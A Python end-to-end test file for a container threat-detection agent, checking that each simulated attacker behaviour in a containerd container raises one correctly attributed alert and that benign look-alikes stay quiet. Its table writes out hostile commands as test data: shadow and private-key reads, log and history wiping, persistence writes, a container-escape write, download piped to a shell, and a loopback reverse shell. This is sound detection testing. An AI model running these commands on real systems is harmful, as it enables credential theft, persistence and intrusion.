"""The bundled detection rules inside real containers (a private containerd, the real agent with its
bundled rules): alerts carry the container, its image and the process lineage; container-scoped rules
stay quiet on the host; a quiet container raises nothing.

The behaviour table runs each attacker behaviour for real in a container of its own (busybox applets,
small stand-ins named like the tool a rule keys on, and tests/behaviours' nwbehave for the syscalls
busybox cannot make) and asserts exactly one alert from that container, with the rule's id, severity
and MITRE technique, the container's id and image, and the ancestry: the container's shell chain
(the task's `sh`, the behaviour's `sh`) up to containerd's shim. Each rule has a benign look-alike in
the same image that must raise nothing. Network behaviour stays on loopback: the container's own
(`ctr run` gives every container a network namespace of its own, `lo` up), or, where a peer must accept
(the stratum port, the reverse shell), the host's, with the listener in this test and the container on
the host's network namespace (a listening server in the container would itself be a rule's business).
Not here: the kernel-module rule (this test machine's kernel has no module syscalls) and the host-only
rules (tests/kernel/test_detect_behaviour.py).

What the kernel refuses a container (mount, unshare, setns, module and BPF loads: no CAP_SYS_ADMIN,
CAP_SYS_MODULE or CAP_BPF in containerd's default set) is still the attempt a rule must see: the
system sensor reports the syscall with its return value.
"""

from __future__ import annotations

import os
import shutil
import socket
import subprocess
import threading
import uuid
from dataclasses import dataclass, field

import pytest

from tests.harness.containerd import CTR
from tests.kernel.conftest import AgentProcess

pytestmark = pytest.mark.e2e

APK = b"#!/bin/sh\n# stands in for Alpine's apk: the rule keys on the program name\nexit 0\n"
# Stand-ins for tools busybox lacks: the rules key on the program's name and arguments, not its work.
STAND_IN = b"#!/bin/sh\n# a stand-in: the rule keys on this program's name and arguments\nexit 0\n"
SHADOW = b"root:*:19000:0:99999:7:::\nnobody:*:19000:0:99999:7:::\n"
KEY = b"-----BEGIN OPENSSH PRIVATE KEY-----\nnot a key\n-----END OPENSSH PRIVATE KEY-----\n"
SA_DIR = "/var/run/secrets/kubernetes.io/serviceaccount"
NWB = "/usr/local/bin/nwbehave"

# The task's shell runs the behaviour's shell, so every behaviour's process has the container's own
# shell chain above it. The script travels in the environment, not on a command line, so that only
# the behaviour's shell (and what it runs) carries it: a rule keyed on command lines sees it once.
# `exit \$?` after it keeps busybox's sh from exec'ing the last command in place.
OUTER = '/bin/sh -c "$NWB_SCRIPT; exit \\$?" nwb; rc=$?; /bin/true done-{cid}; exit $rc'
SHIM = "containerd-shim"


@dataclass(frozen=True)
class Behaviour:
    rule: str
    severity: str
    technique: str
    script: str  # run by the behaviour's sh in a fresh container; must exit 0
    benign: str  # the look-alike, in a fresh container too: no alert at all
    proc: str = ""  # process.name of the alert; "" = not checked (a memfd's name, say)
    parents: tuple[str, ...] = ()  # ancestors between the alert's process and the behaviour's sh
    fields: dict = field(default_factory=dict)  # more alert keys and the values they must have
    name: str = ""  # test id when a rule has more than one behaviour
    ctr_args: tuple[str, ...] = ()  # more `ctr run` options (capabilities a behaviour needs)
    peer: int | None = None  # a loopback listener's port ({port} in the scripts; 0: any), see _peer()

    @property
    def id(self) -> str:
        return self.name or self.rule.removeprefix("nw.")

    @property
    def ancestors(self) -> list[str]:
        """The alert's process.ancestors.name: the inner sh itself acts (ancestors: the task's sh and the
        shim), or a program the inner sh ran (ancestors: the inner sh, the task's sh, the shim)."""
        if self.proc == "sh" and not self.parents:
            return ["sh", SHIM]
        return [*self.parents, "sh", "sh", SHIM]


MINER_PORTS = (3333, 14444, 5555, 7777)  # some of the rule's stratum ports: the first one free is used


_LO_ADDR = "/bin/ip addr add 10.254.0.1/32 dev lo"

BEHAVIOURS = [
    # -- files ------------------------------------------------------------------------------------------
    Behaviour("nw.write_below_etc", "high", "T1543", "echo x > /etc/evil.conf",
              "/bin/cat /etc/hosts > /dev/null; echo x > /tmp/evil.conf", proc="sh",
              fields={"file.path": "/etc/evil.conf"}),
    Behaviour("nw.write_below_binary_dir", "high", "T1574", "echo x > /usr/bin/evil",
              "echo x > /usr/evil.txt", proc="sh", fields={"file.path": "/usr/bin/evil"}),
    Behaviour("nw.write_below_root", "medium", "T1546", "echo x > /root/notes.txt",
              "/bin/mkdir -p /root/.cache; echo x > /root/.cache/state", proc="sh"),
    # an interactive shell rewriting its own history is spared (bash does at exit); a `sh -c` keeps none
    Behaviour("nw.clear_shell_history", "high", "T1070.003", ": > /root/.ash_history",
              "echo ls >> /root/.ash_history", proc="sh", fields={"file.path": "/root/.ash_history"}),
    Behaviour("nw.setuid_setgid_bit", "high", "T1548.001", "/bin/chmod u+s /opt/app/tool",
              "/bin/chmod 0755 /opt/app/tool", proc="chmod"),
    Behaviour("nw.cron_systemd_persistence", "high", "T1053.003", "echo '* * * * * root /tmp/x' >> /etc/crontab",
              "/bin/cat /etc/crontab > /dev/null", proc="sh"),
    Behaviour("nw.authorized_keys_modified", "high", "T1098.004",
              "echo 'ssh-ed25519 AAAA x' >> /home/app/.ssh/authorized_keys",
              "echo 'host ssh-ed25519 AAAA' >> /home/app/.ssh/known_hosts", proc="sh"),
    Behaviour("nw.shell_rc_modified", "medium", "T1546.004", "echo 'export PATH=/tmp:$PATH' >> /home/app/.profile",
              "echo x > /home/app/profile.txt", proc="sh"),
    Behaviour("nw.sensitive_file_read", "high", "T1003.008", "/bin/cat /etc/shadow > /dev/null",
              "/bin/cat /etc/passwd > /dev/null", proc="cat", name="sensitive_file_read_shadow",
              fields={"file.path": "/etc/shadow"}),
    Behaviour("nw.sensitive_file_read", "high", "T1552.004", "/bin/cat /root/.ssh/id_rsa > /dev/null",
              "/bin/cat /root/.ssh/id_rsa.pub > /dev/null", proc="cat", name="sensitive_file_read_private_key"),
    Behaviour("nw.sa_token_read", "medium", "T1528", f"/bin/cat {SA_DIR}/token > /dev/null",
              f"/bin/cat {SA_DIR}/namespace > /dev/null", proc="cat"),
    Behaviour("nw.log_cleared", "high", "T1070.002", ": > /var/log/messages",
              "echo 'app: started' >> /var/log/messages", proc="sh"),
    Behaviour("nw.link_to_sensitive_file", "high", "T1222", "/bin/ln -s /etc/shadow /tmp/s",
              "/bin/ln -s /etc/hostname /tmp/h", proc="ln", fields={"file.link.target": "/etc/shadow"}),
    # release_agent keys on the file's name: the real cgroup file is on a read-only /sys in a container,
    # and a refused open never reaches the file probe. The write an escape makes is this one.
    Behaviour("nw.container_escape_write", "critical", "T1611", "echo /tmp/x > /opt/cgroup/release_agent",
              "echo 1 > /opt/cgroup/tasks", proc="sh"),
    # -- processes ----------------------------------------------------------------------------------------
    Behaviour("nw.exec_from_writable_dir", "high", "T1059", "/tmp/tool noop", f"{NWB} noop", proc="tool"),
    # a relative exec names no directory: the rule reads the kernel's path and the working directory
    Behaviour("nw.exec_from_writable_dir", "high", "T1059", "cd /tmp && ./tool noop", "cd /opt/app && ./tool noop",
              proc="tool", name="exec_from_writable_dir_relative"),
    Behaviour("nw.exec_not_in_image", "high", "T1105",
              "/bin/mkdir -p /opt/new; /bin/cp /bin/busybox /opt/new/true; /opt/new/true dropped",
              "/opt/app/tool noop", proc="true", fields={"process.executable.upper_layer": True}),
    Behaviour("nw.fileless_exec", "critical", "T1620", f"{NWB} memfd-exec", f"{NWB} memfd-noexec"),
    Behaviour("nw.network_tool_run", "medium", "T1046", "/bin/nc -h 2>/dev/null; :",
              "/bin/netstat -tn > /dev/null", proc="nc"),
    Behaviour("nw.package_manager_in_container", "medium", "T1072", "/sbin/apk add nmap", "/sbin/ldconfig",
              proc="apk"),
    Behaviour("nw.miner_command_line", "critical", "T1496", '/bin/true -o "stratum+""tcp://pool.example:3333"',
              '/bin/true -o "tcp://""pool.example:3333"', proc="true", name="miner_pool_url"),
    Behaviour("nw.miner_command_line", "critical", "T1496", "/usr/local/bin/xmrig --version",
              "/usr/local/bin/xmr-report --version", proc="xmrig", name="miner_by_name"),
    Behaviour("nw.shell_from_server", "high", "T1505.003", "/usr/sbin/nginx spawn /bin/sh -c /bin/true",
              "/usr/sbin/nginx spawn /bin/true", proc="sh", parents=("nginx",)),
    Behaviour("nw.download_piped_to_shell", "high", "T1105",
              "/bin/wget -q -O- http://127.0.0.1:1/x.sh 2>/dev/null | /bin/sh -s",
              "/bin/wget -q -O /tmp/x.sh http://127.0.0.1:1/x.sh 2>/dev/null; :", proc="sh"),
    Behaviour("nw.remote_copy_tool", "medium", "T1105", "/usr/bin/scp /etc/hosts app@127.0.0.1:/tmp/",
              "/bin/cp /etc/hosts /tmp/hosts", proc="scp"),
    Behaviour("nw.search_for_secrets", "medium", "T1552.001", "/bin/find /root /home -name id_rsa > /dev/null",
              "/bin/find /root /home -name '*.txt' > /dev/null", proc="find", name="search_find_keys"),
    Behaviour("nw.search_for_secrets", "medium", "T1552.001", "/bin/grep -rl password /home > /dev/null; :",
              "/bin/grep -rl hello /home > /dev/null; :", proc="grep", name="search_grep_passwords"),
    Behaviour("nw.user_management", "medium", "T1136.001", "/usr/sbin/useradd -m evil", "/bin/id -u > /dev/null",
              proc="useradd"),
    # -- system calls (nwbehave) ---------------------------------------------------------------------------
    Behaviour("nw.ptrace_attach", "high", "T1055.008", f"{NWB} ptrace-attach", "/usr/bin/strace ptrace-attach",
              proc="nwbehave"),
    Behaviour("nw.ptrace_anti_debug", "medium", "T1622", f"{NWB} ptrace-traceme",
              f"/usr/bin/strace spawn {NWB} ptrace-traceme", proc="nwbehave"),
    Behaviour("nw.setuid_to_root", "high", "T1548", f"{NWB} setuid-root", f"{NWB} setuid-drop", proc="nwbehave"),
    # containerd's default set has none of the capabilities the rule watches: this pod was given one
    Behaviour("nw.capset_raise", "medium", "T1548", f"{NWB} capset", f"{NWB} capset-bind", proc="nwbehave",
              ctr_args=("--cap-add", "CAP_SYS_ADMIN")),
    Behaviour("nw.mount_in_container", "high", "T1611", f"/bin/mkdir -p /mnt; {NWB} mount-tmpfs /mnt || :",
              "/bin/mount > /dev/null", proc="nwbehave"),
    Behaviour("nw.namespace_change_in_container", "high", "T1611", f"{NWB} unshare-net || :",
              "/bin/readlink /proc/self/ns/net > /dev/null", proc="nwbehave", name="namespace_unshare"),
    Behaviour("nw.namespace_change_in_container", "high", "T1611", f"{NWB} setns-self || :",
              "/bin/readlink /proc/self/ns/mnt > /dev/null", proc="nwbehave", name="namespace_setns"),
    Behaviour("nw.packet_socket", "medium", "T1040", f"{NWB} packet-socket", f"{NWB} udp-socket", proc="nwbehave",
              name="packet_socket"),
    Behaviour("nw.packet_socket", "medium", "T1040", f"{NWB} raw-socket", f"{NWB} tcp-socket", proc="nwbehave",
              name="raw_socket"),
    Behaviour("nw.bpf_program_load_in_container", "high", "T1014", f"{NWB} bpf-load || :", f"{NWB} noop",
              proc="nwbehave"),
    # -- network ------------------------------------------------------------------------------------------
    # the peers listen in this test, on loopback, and these containers share the host's network namespace
    # (a hostNetwork pod): a listener inside the container would be a server program, and rules watch those too
    Behaviour("nw.miner_stratum_port", "medium", "T1496",
              "/bin/wget -q -O /dev/null http://127.0.0.1:{port}/ 2>/dev/null; :",
              "/bin/wget -q -O /dev/null http://127.0.0.1:{other}/ 2>/dev/null; :", proc="wget", peer=MINER_PORTS[0]),
    Behaviour("nw.reverse_shell", "critical", "T1059.004", f"{NWB} reverse-shell 127.0.0.1 {{port}}",
              f"{NWB} dup-socket-high 127.0.0.1 {{port}}", proc="nwbehave", peer=0),
    # a non-loopback destination that never leaves the container: an address of its own, on its own lo
    # (loopback destinations are not the rule's business)
    Behaviour("nw.unexpected_udp", "low", "T1095", f"{_LO_ADDR}; {NWB} udp-send 10.254.0.1 9999",
              f"{_LO_ADDR}; {NWB} udp-send 10.254.0.1 53", proc="nwbehave", fields={"network.peer.port": 9999},
              ctr_args=("--cap-add", "CAP_NET_ADMIN")),
]


@pytest.fixture(scope="module")
def agent(containerd):
    if os.geteuid() != 0:
        pytest.skip("needs root")
    a = AgentProcess("--containerd-socket", str(containerd.socket))
    yield a
    a.stop()


@pytest.fixture(scope="module")
def image(image_builder, tmp_path_factory):
    from tests.behaviours.build import build

    with open(build(str(tmp_path_factory.mktemp("nwbehave"))), "rb") as f:
        nwb = (f.read(), 0o755)
    return image_builder("nodewarden.test/detect:2", {
        "/sbin/apk": (APK, 0o755),
        "/sbin/ldconfig": (STAND_IN, 0o755),
        "/usr/sbin/useradd": (STAND_IN, 0o755),
        "/usr/bin/scp": (STAND_IN, 0o755),
        "/usr/local/bin/xmrig": (STAND_IN, 0o755),
        "/usr/local/bin/xmr-report": (STAND_IN, 0o755),
        NWB: nwb,
        "/tmp/tool": nwb,  # in the image: a program in /tmp that nobody copied up
        "/opt/app/tool": nwb,
        "/usr/sbin/nginx": nwb,  # a "web server" that runs a child (nwbehave spawn)
        "/usr/bin/strace": nwb,  # a "debugger" that traces its own child
        "/etc/shadow": (SHADOW, 0o640),
        "/etc/crontab": b"# m h dom mon dow user command\n",
        "/root/.ash_history": (b"ls\n", 0o600),
        "/root/.ssh/id_rsa": (KEY, 0o600),
        "/root/.ssh/id_rsa.pub": b"ssh-ed25519 AAAA root@x\n",
        "/home/app/.ssh/known_hosts": b"",
        "/home/app/notes.txt": b"hello\n",
        "/var/log/messages": b"boot\n",
        f"{SA_DIR}/token": (b"eyJhbGciOiJSUzI1NiJ9.e30.sig", 0o644),
        f"{SA_DIR}/namespace": b"default",
        "/opt/cgroup/release_agent": b"",
        "/opt/cgroup/tasks": b"",
    })


class _Peer:
    """Loopback TCP listeners for the network behaviours: each accepts, reads what comes and hangs up."""

    def __init__(self, ports: tuple[int, ...]):
        self.socks = []
        for port in ports:
            s = socket.socket()
            s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            s.bind(("127.0.0.1", port))
            s.listen(8)
            self.socks.append(s)
            threading.Thread(target=self._serve, args=(s,), daemon=True).start()

    @property
    def ports(self) -> list[int]:
        return [s.getsockname()[1] for s in self.socks]

    @staticmethod
    def _serve(s: socket.socket) -> None:
        while True:
            try:
                c, _ = s.accept()
            except OSError:
                return  # closed
            with c:
                c.settimeout(2)
                try:
                    c.recv(4096)
                except OSError:
                    pass

    def close(self) -> None:
        for s in self.socks:
            s.close()


def _peer(b: Behaviour) -> _Peer:
    """Listeners for b: its port (or, for the stratum port, the first of MINER_PORTS free here) and one on a
    port the rules ignore ({other})."""
    if b.peer:
        for port in MINER_PORTS:
            try:
                return _Peer((port, 0))
            except OSError:
                continue  # in use on this machine
        pytest.fail(f"none of the stratum ports {MINER_PORTS} is free on this machine's loopback")
    return _Peer((0, 0))


def _script(b: Behaviour, text: str, peer: _Peer | None) -> str:
    if peer is None:
        return text
    port, other = peer.ports
    return text.format(port=port, other=other)


def _run_behaviour(containerd, image, b: Behaviour, benign: bool) -> tuple[str, int | None]:
    """Run b's behaviour (or its look-alike) to its end; the container id and the peer's port."""
    peer = _peer(b) if b.peer is not None else None
    try:
        args = (*b.ctr_args, "--net-host") if peer else b.ctr_args
        return _run(containerd, image, _script(b, b.benign if benign else b.script, peer), args), (
            peer.ports[0] if peer else None)
    finally:
        if peer:
            peer.close()


def _run(containerd, image, script: str, ctr_args: tuple[str, ...] = ()) -> str:
    """Run script as the behaviour's shell in a fresh container, to its end; returns the container id."""
    cid = f"nw-det-{uuid.uuid4().hex[:8]}"
    p = containerd.ctr("run", "--rm", *ctr_args, "--env", f"NWB_SCRIPT={script}", image.name, cid,
                       "/bin/sh", "-c", OUTER.format(cid=cid), check=False, timeout=60)
    assert p.returncode == 0, f"behaviour failed in {cid} (rc {p.returncode}): {p.stdout[-500:]} {p.stderr[-500:]}"
    return cid


def _alerts(agent, cid: str) -> list[dict]:
    """The alerts from container cid, once its last process (the done marker) has exited."""
    (done,) = agent.wait_for(lambda r: r["event.name"] == "process.exec" and r.get("container.id") == cid
                             and r.get("process.args") == ["/bin/true", f"done-{cid}"], timeout=30)
    agent.wait_for(lambda r: r["event.name"] == "process.exit" and r["process.pid"] == done["process.pid"]
                   and r.get("container.id") == cid, timeout=10)
    return agent.find(lambda r: r["event.name"] == "alert" and r.get("container.id") == cid)


def _describe(alerts: list[dict]) -> list:
    return [(a["rule.id"], a.get("alert.output")) for a in alerts]


@pytest.mark.parametrize("b", BEHAVIOURS, ids=lambda b: b.id)
def test_behaviour_raises_one_alert(agent, containerd, image, b: Behaviour):
    cid, port = _run_behaviour(containerd, image, b, benign=False)
    alerts = _alerts(agent, cid)
    assert [a["rule.id"] for a in alerts] == [b.rule], _describe(alerts)
    a = alerts[0]
    assert a["event.severity"] == b.severity
    assert b.technique in a["threat.technique.id"], a["threat.technique.id"]
    assert a["threat.tactic.name"] and a["rule.name"] and a["rule.description"] and a["alert.output"]
    assert (a["container.id"], a["container.image.name"], a["container.runtime"]) == (cid, image.name, "containerd")
    if b.proc:
        assert a["process.name"] == b.proc
    assert a["process.ancestors.name"] == b.ancestors, a["process.ancestors.name"]
    for k, v in b.fields.items():
        assert a.get(k) == v, (k, a.get(k))
    if port is not None:
        assert (a["network.peer.address"], a["network.peer.port"]) == ("127.0.0.1", port)


@pytest.mark.parametrize("b", BEHAVIOURS, ids=lambda b: b.id)
def test_benign_lookalike_is_quiet(agent, containerd, image, b: Behaviour):
    cid, _ = _run_behaviour(containerd, image, b, benign=True)
    assert _describe(_alerts(agent, cid)) == []


# -- an interactive shell: what `kubectl exec -it POD sh` makes (ctr tasks exec, commands on stdin) ---------


def _exec_in(containerd, cid: str, argv: list[str], stdin: str = "") -> subprocess.CompletedProcess:
    """`ctr tasks exec` with stdin fed to the process (the harness's exec() leaves stdin to the caller)."""
    eid = f"x-{uuid.uuid4().hex[:8]}"
    cmd = [CTR, "-a", str(containerd.socket), "-n", containerd.namespace, "tasks", "exec", "--exec-id", eid, cid,
           *argv]
    return subprocess.run(cmd, input=stdin, capture_output=True, text=True, timeout=60)


def _exec_alerts(agent, containerd, image, argv: list[str], stdin: str) -> tuple[str, list[dict]]:
    cid = containerd.run(image, "/bin/sleep", "120", cid=f"nw-det-{uuid.uuid4().hex[:8]}")
    try:
        p = _exec_in(containerd, cid, argv, stdin)
        assert p.returncode == 0, p.stderr
        marker = _exec_in(containerd, cid, ["/bin/true", f"done-{cid}"])
        assert marker.returncode == 0, marker.stderr
        return cid, _alerts(agent, cid)
    finally:
        containerd.remove(cid)


def test_interactive_shell_in_a_container(agent, containerd, image):
    cid, alerts = _exec_alerts(agent, containerd, image, ["/bin/sh"], "id\n/bin/ls / > /dev/null\nexit\n")
    assert [a["rule.id"] for a in alerts] == ["nw.interactive_shell_in_container"], _describe(alerts)
    a = alerts[0]
    assert a["event.severity"] == "medium" and "T1059.004" in a["threat.technique.id"]
    assert (a["container.id"], a["container.image.name"]) == (cid, image.name)
    # ctr's exec is runc's: the shell is what `runc exec` became, under the container's shim (runc may have
    # exited, and the shell been handed to the shim, by the time the agent reads the lineage)
    assert a["process.args"] == ["/bin/sh"] and a["process.ancestors.name"] in (["runc", SHIM], [SHIM])


def test_a_shell_command_exec_is_not_interactive(agent, containerd, image):
    _, alerts = _exec_alerts(agent, containerd, image, ["/bin/sh", "-c", "/bin/ls / > /dev/null"], "")
    assert _describe(alerts) == []


# -- the first tests of this file ------------------------------------------------------------------------


def _run_simple(containerd, image, script: str) -> str:
    cid = f"nw-det-{uuid.uuid4().hex[:8]}"
    containerd.run_once(image, "/bin/sh", "-c", f"{script}; /bin/true done-{cid}", cid=cid)
    return cid


def test_package_manager_in_a_container(agent, containerd, image):
    cid = _run_simple(containerd, image, "/sbin/apk add nmap")
    alerts = _alerts(agent, cid)
    assert [(a["rule.id"], a["event.severity"]) for a in alerts] == [("nw.package_manager_in_container", "medium")]
    a = alerts[0]
    assert "T1072" in a["threat.technique.id"] and a["container.image.name"] == image.name
    assert a["process.executable.path"] == "/sbin/apk" and a["process.parent.executable.path"] == "/bin/sh"


def test_package_manager_on_the_host_is_not_this_rule(agent, tmp_path):
    d = f"/run/nw-det-{uuid.uuid4().hex[:8]}"
    os.makedirs(d)
    try:
        with open(f"{d}/apk", "wb") as f:
            f.write(APK)
        os.chmod(f"{d}/apk", 0o755)
        p = subprocess.run([f"{d}/apk", "add", "nmap"], timeout=10)
        assert p.returncode == 0
        (ex,) = agent.wait_for(lambda r: r["event.name"] == "process.exec"
                               and r.get("process.executable.path") == f"{d}/apk", timeout=10)
        agent.wait_for(lambda r: r["event.name"] == "process.exit" and r["process.pid"] == ex["process.pid"])
        assert agent.find(lambda r: r["event.name"] == "alert" and r["process.pid"] == ex["process.pid"]) == []
    finally:
        shutil.rmtree(d)


def test_write_below_etc_in_a_container_names_the_container(agent, containerd, image):
    cid = _run_simple(containerd, image, "echo x > /etc/evil.conf")
    alerts = _alerts(agent, cid)
    assert [a["rule.id"] for a in alerts] == ["nw.write_below_etc"]
    assert alerts[0]["file.path"] == "/etc/evil.conf" and alerts[0]["container.id"] == cid


def test_a_quiet_container_raises_nothing(agent, containerd, image):
    cid = _run_simple(containerd, image, "ls / >/dev/null; cat /etc/hostname >/dev/null; echo x > /tmp/scratch")
    assert _alerts(agent, cid) == []
